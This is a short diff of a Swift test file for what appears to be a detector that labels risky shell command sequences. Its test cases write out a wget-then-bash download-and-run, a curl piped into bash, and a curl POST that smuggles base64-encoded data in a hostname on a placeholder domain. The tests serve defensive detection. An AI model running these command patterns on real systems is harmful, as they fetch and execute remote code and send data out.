@@ -62,6 +62,8 @@ import Testing
         #expect(Self.run([["wget", "http://x.example/a.sh"], ["bash", "a.sh"]]).contains("download-then-run"))
         #expect(!Self.run([["curl", "-s", "https://x.example/index.html"]]).contains("download-then-run"))
         #expect(Self.run([["curl", "-sS", "https://x.example/i.sh"], ["bash"]]).contains("shell-reads-commands-from-pipe"))
+        #expect(Self.run([["curl", "-XPOST", "MTExLTExLTExMTE=.x.example"]], failing: true).contains("encodes-before-sending"))
+        #expect(!Self.run([["curl", "-XPOST", "https://api.x.example/v1/items"]]).contains("encodes-before-sending"))
     }
 
     @Test func destructionIsWholeTreesOrWipersNotBuildCleanups() {
